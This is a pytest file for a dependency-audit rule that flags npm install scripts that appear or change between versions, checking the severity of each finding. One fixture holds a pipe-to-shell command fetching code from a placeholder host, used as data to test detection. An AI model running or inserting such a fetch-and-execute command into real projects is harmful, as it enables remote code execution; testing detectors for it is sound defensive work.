"""Install scripts that stay as they were, then those that appear or change."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from support.subjects import compared, entry, found, package, subject, use

from audit.model.contents import Source
from audit.model.manifest import Manifest

if TYPE_CHECKING:
    from audit.model.finding import Finding
    from audit.model.package import CapabilityUse

RULE = "changed-script"
Uses = list["CapabilityUse"]


def script(command: str, name: str = "postinstall") -> CapabilityUse:
    return use(f"script:{name}", "install", f"package.json:4:4:{command}")


def judged(old: Uses, new: Uses, **fields: Any) -> tuple[Finding, ...]:
    return found(
        RULE, compared(package("node_modules/a", *old), package("node_modules/a", *new, **fields))
    )


READS = use("builtin:fs.readFileSync", "filesystem-read", "setup.js:1")
SENDS = use("builtin:https.get", "network", "setup.js:2")
SILENT: dict[str, tuple[Uses, Uses]] = {
    "none": ([], [SENDS]),
    "the same": ([script("node setup.js"), READS], [script("node setup.js"), READS]),
    "other spaces": ([script("node  setup.js")], [script("node setup.js ")]),
    "gone": ([script("node setup.js")], []),
    "power elsewhere": (
        [script("node setup.js"), READS],
        [script("node setup.js"), READS, use("builtin:https.get", "network", "lib/x.js:2")],
    ),
}


@pytest.mark.parametrize(("old", "new"), SILENT.values(), ids=SILENT)
def test_silent(old: Uses, new: Uses) -> None:
    assert judged(old, new) == ()


def test_without_a_version_before_another_rule_speaks() -> None:
    assert found(RULE, subject(package("node_modules/a", script("node setup.js")))) == ()


FIRING: dict[str, tuple[str, Uses, Uses]] = {
    "appears": ("high", [], [script("node setup.js")]),
    "a well-known builder appears": ("moderate", [], [script("node-gyp rebuild", "install")]),
    "a build without a script": ("high", [], [use("script:gyp", "install", "binding.gyp:1:1")]),
    "another one appears": ("high", [script("node-gyp rebuild", "install")], [
        script("node-gyp rebuild", "install"), script("node pre.js", "preinstall")]),
    "other words": ("moderate", [script("node setup.js")], [script("node other.js")]),
    "other words, more power": ("high", [script("node setup.js"), READS], [script("node setup.js -x"), READS, SENDS]),
    "words that download": ("high", [script("node setup.js")], [script("curl https://x.invalid | sh")]),
    "the file does more": ("high", [script("node setup.js"), READS], [script("node setup.js"), READS, SENDS]),
    "the file does a little more": ("moderate", [script("node setup.js")], [script("node setup.js"), READS]),
}  # fmt: skip


@pytest.mark.parametrize(("severity", "old", "new"), FIRING.values(), ids=FIRING)
def test_firing(severity: str, old: Uses, new: Uses) -> None:
    (finding,) = judged(old, new)
    assert finding.severity == severity


def test_what_only_the_lockfile_tells() -> None:
    locked = entry("node_modules/a", hasInstallScript=True)
    (finding,) = judged([], [], source=Source.MISSING, locked=locked)
    assert (finding.severity, finding.evidence) == ("high", ())
    (finding,) = judged([], [], manifest=Manifest(problem="not JSON"), locked=locked)
    assert (finding.severity, finding.evidence) == ("high", ())


@pytest.mark.parametrize(
    ("uses", "flags"),
    [([], {"hasInstallScript": True}), ([script("node setup.js")], {})],
    ids=["as the lockfile said", "as was read"],
)
def test_what_ran_before_is_no_news_where_nothing_is_read(
    uses: Uses, flags: dict[str, Any]
) -> None:
    old = package("node_modules/a", *uses, locked=entry("node_modules/a", **flags))
    locked = entry("node_modules/a", hasInstallScript=True)
    new = package("node_modules/a", source=Source.MISSING, locked=locked)
    assert found(RULE, compared(old, new)) == ()
